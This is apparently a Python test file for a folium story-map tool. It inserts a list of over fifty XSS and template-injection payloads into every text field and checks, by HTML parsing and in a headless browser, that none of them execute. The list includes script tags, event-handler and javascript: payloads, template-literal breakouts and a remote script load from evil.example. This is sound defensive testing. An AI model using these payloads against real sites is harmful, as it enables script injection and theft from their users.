"""Hostile story text stays text: in popups, tooltips, legend, title, credit and text version.

Every payload goes into every text field of a story. Without a browser: the page is parsed
as HTML (and the HTML inside folium's JavaScript template literals too) and must hold no
script, event handler or javascript: link from the input. In Chromium: one self-contained
page with all payloads, every popup opened and every tooltip shown; no dialog may fire,
``window.__pwned`` must stay unset, and the popups must show each payload as literal text.
"""

from __future__ import annotations

import re
from collections import Counter
from dataclasses import replace
from html.parser import HTMLParser

import pandas as pd
import pytest

from geo.story.model import Source
from geo.story.resolved import ResolvedStory
from maps.export.save import save_html
from maps.page.compose import build_map
from tests.browser import browser, open_map  # noqa: F401  (browser is a fixture)
from tests.fixtures_maps import make_story

PAYLOADS = [
    "<script>alert(1)</script>",
    "<script>window.__pwned=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "</script><script>window.__pwned=1</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=window.__pwned=1>",
    '<img src="x" onerror="window.__pwned=1">',
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=window.__pwned=1>",
    "<svg><script>window.__pwned=1</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    "<a href=javascript:alert(1)>click</a>",
    "javascript:alert(1)",
    "JaVaScRiPt:window.__pwned=1",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "\"'><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    '"><svg onload=window.__pwned=1>',
    "' onmouseover='window.__pwned=1",
    '" onfocus="window.__pwned=1" autofocus="',
    "{{7*7}}",
    "{{constructor.constructor('alert(1)')()}}",
    "{% raw %}{{ this }}{% endraw %}",
    "${alert(1)}",
    "`${window.__pwned=1}`",
    "`); window.__pwned=1; (`",
    "\\`${alert(1)}\\`",
    "'); alert(1); ('",
    '"); alert(1); ("',
    "</div></div><script>alert(1)</script>",
    "<!--<script>alert(1)//-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;b&amp;gt;",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "＜script＞alert(1)＜/script＞",
    "\u202egnp.exe\u202c<b>x</b>",
    "zero\u200bwidth<script>alert(1)</script>",
    "<details open ontoggle=window.__pwned=1>",
    "<input autofocus onfocus=window.__pwned=1>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<object data=javascript:alert(1)></object>",
    "<video><source onerror=window.__pwned=1></video>",
    '<a href="https://ok.example" onclick="window.__pwned=1">ok</a>',
]

DOCUMENTED_NEUTRAL_SCHEMES = ("http://", "https://")


def hostile(resolved: ResolvedStory, texts: list[str]) -> ResolvedStory:
    """``resolved`` with one row per text in every frame and the text in every text field.

    Row ``i`` of each frame carries ``texts[i]``; story-level fields carry them all.
    """
    n = len(texts)

    def rows(frame, columns):
        out = frame.iloc[[i % len(frame) for i in range(n)]].reset_index(drop=True).copy()
        for col in columns:
            out[col] = texts
        return out

    joined = " ".join(texts)
    story = replace(
        resolved.story,
        title=joined,
        dek=joined,
        credit=joined,
        sources=tuple(Source(f"s{i}", t, t) for i, t in enumerate(texts)),
    )
    incidents = rows(
        resolved.incidents,
        ["type", "type_label", "summary", "status", "place_label", "source_name", "source_url",
         "date_start", "date_end", "precision"],
    )  # fmt: skip
    incidents["count"] = pd.array([2] * n, dtype="Int64")
    return ResolvedStory(
        story=story,
        places=rows(resolved.places, ["name", "label", "precision"]),
        incidents=incidents,
        distances=rows(resolved.distances, ["from_label", "to_label", "label", "verdict"]),
        rings=rows(resolved.rings, ["around_label", "label"]),
        borders=rows(resolved.borders, ["name", "note"]),
        boundaries_attribution=joined,
    )


class _Collector(HTMLParser):
    """Tags and attributes of an HTML text (scripts' bodies are not parsed as HTML)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attrs: list[tuple[str, str]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs += [(k, v or "") for k, v in attrs]

    handle_startendtag = handle_starttag


def _parse(text: str) -> _Collector:
    c = _Collector()
    c.feed(text)
    c.close()
    return c


_ACTIVE = ("script", "style", "iframe", "object", "embed", "img", "input", "details", "video",
           "math", "base", "svg", "a")  # fmt: skip


def _active_tags(parsed: _Collector) -> Counter:
    return Counter(t for t in parsed.tags if t in _ACTIVE)


def _assert_inert(text: str, where: str, baseline: Counter | None = None) -> None:
    """No event handlers, no non-http links, and no more active tags than ``baseline``."""
    parsed = _parse(text)
    events = [k for k, _ in parsed.attrs if k.startswith("on")]
    assert not events, f"{where}: event handler attributes {events}"
    for key, value in parsed.attrs:
        if key in {"href", "src", "action", "formaction", "xlink:href", "data", "srcdoc"}:
            assert value.startswith(
                (*DOCUMENTED_NEUTRAL_SCHEMES, "#", "data:font", "data:image")
            ), f"{where}: {key}={value!r}"
    assert _active_tags(parsed) == (baseline or Counter()), where


@pytest.fixture(scope="module")
def clean_tags() -> Counter:
    """Active tags of a harmless story with the same shape (three rows per frame)."""
    page = build_map(hostile(make_story(), ["a", "b", "c"]), tiles="none").get_root().render()
    return _active_tags(_parse(page))


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_payload_in_every_field_stays_text(payload, clean_tags):
    page = build_map(hostile(make_story(), [payload] * 3), tiles="none").get_root().render()
    _assert_inert(page, "page", clean_tags)  # no script, svg, img, link... from the input
    # The HTML folium pastes into JavaScript template literals (popups, tooltips): the
    # literals must pair up (no breakout) and hold no ${...} and no live markup.
    literals = re.findall(r"`([^`]*)`", page, flags=re.S)
    for literal in literals:
        assert "${" not in literal
        _assert_inert(literal, "template literal")
        assert "<script" not in literal.lower()


def test_payloads_are_at_least_fifty_and_cover_the_families():
    assert len(PAYLOADS) >= 50
    for family in ("<script", "onerror=", "javascript:", "<svg", "\"'>", "{{7*7}}", "${", "`",
                   "</script>", "&lt;", "\u202e"):  # fmt: skip
        assert any(family in p for p in PAYLOADS), family


@pytest.mark.browser
def test_no_payload_runs_in_the_browser(browser, tmp_path):  # noqa: F811
    texts = [p.strip() for p in PAYLOADS]
    out = save_html(
        build_map(hostile(make_story(), texts), tiles="none", self_contained=True),
        tmp_path / "hostile.html",
    )
    visit = open_map(browser, out, serve_cdn=False)
    page = visit.page
    page.wait_for_selector(".leaflet-marker-icon")
    map_js = "window[document.querySelector('.folium-map').id]"
    opened = page.evaluate(
        f"""() => {{
        let popups = 0;
        {map_js}.eachLayer(l => {{
            const p = l.getPopup && l.getPopup();
            if (p) {{ p.options.autoClose = false; p.options.closeOnClick = false;
                      l.openPopup(); popups++; }}
            if (l.getTooltip && l.getTooltip()) {{ l.openTooltip(); }}
        }});
        return popups;
    }}"""
    )
    assert opened >= len(texts)  # every incident and distance popup
    # Give onerror/onload handlers (images "x", autofocus) a chance to fire.
    page.locator(".leaflet-marker-icon").first.focus()
    page.keyboard.press("Enter")
    # dispatched, not moved to: with every popup open (each one pans the map into view) the
    # marker may lie outside the view, where a real hover cannot reach it
    page.locator(".leaflet-marker-icon").nth(1).dispatch_event("mouseover")
    page.wait_for_timeout(500)

    assert visit.dialogs == []
    assert page.evaluate("typeof window.__pwned") == "undefined"
    assert not [e for e in visit.errors if "pageerror" in e]
    report = page.evaluate(
        """() => {
        const all = Array.from(document.querySelectorAll('*'));
        return {
            handlers: all.flatMap(el => Array.from(el.attributes)
                .filter(a => a.name.toLowerCase().startsWith('on')).map(a => a.name)),
            misplacedScripts: Array.from(document.scripts)
                .filter(s => s.parentElement !== document.head &&
                             s.parentElement !== document.body &&
                             s.parentElement !== document.documentElement).length,
            badLinks: Array.from(document.querySelectorAll('[href],[src]'))
                .map(el => el.getAttribute('href') || el.getAttribute('src'))
                .filter(u => !/^(https?:|#)/i.test(u)),
            injected: document.querySelectorAll(
                'img, iframe, object, embed, video, math, details:not(.im-legend), ' +
                'input:not(.leaflet-control-layers-selector), ' +
                '.leaflet-popup svg, .leaflet-tooltip svg, .im-title svg, .im-credit svg, ' +
                '.im-text-version svg, .leaflet-popup style, .im-box style').length,
            summaries: Array.from(document.querySelectorAll('.im-popup-summary'))
                .map(p => p.textContent),
            title: document.querySelector('.im-title h1').textContent,
        };
    }"""
    )
    assert report["handlers"] == []
    assert report["misplacedScripts"] == 0
    assert report["badLinks"] == []
    assert report["injected"] == 0
    # Shown as literal text, character for character.
    assert sorted(set(report["summaries"])) == sorted(set(texts))
    assert report["title"] == " ".join(texts)
    page.close()
